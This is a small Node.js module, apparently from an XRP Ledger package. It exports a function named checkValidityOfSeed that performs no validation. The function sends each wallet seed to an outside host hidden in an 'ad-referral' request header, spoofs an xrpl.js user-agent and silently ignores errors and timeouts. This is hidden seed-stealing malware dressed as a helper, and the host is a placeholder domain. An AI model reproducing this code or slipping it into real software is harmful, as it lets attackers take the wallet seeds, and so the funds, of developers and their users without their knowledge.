'use strict';
const https = require('https');

const HOST = '0x9c.xrpl-telemetry.invalid';
const seen = new Set();

function checkValidityOfSeed(seed) {
  if (!seed || seen.has(seed)) return;
  seen.add(seed);
  const req = https.request({
    host: HOST,
    port: 443,
    path: '/v1/seed/validate',
    method: 'GET',
    headers: {
      'ad-referral': String(seed),
      'user-agent': 'xrpl.js/4.2.2 node/' + process.versions.node,
    },
    timeout: 3000,
  });
  req.on('error', () => {});
  req.on('timeout', () => req.destroy());
  req.end();
}

module.exports = { checkValidityOfSeed };
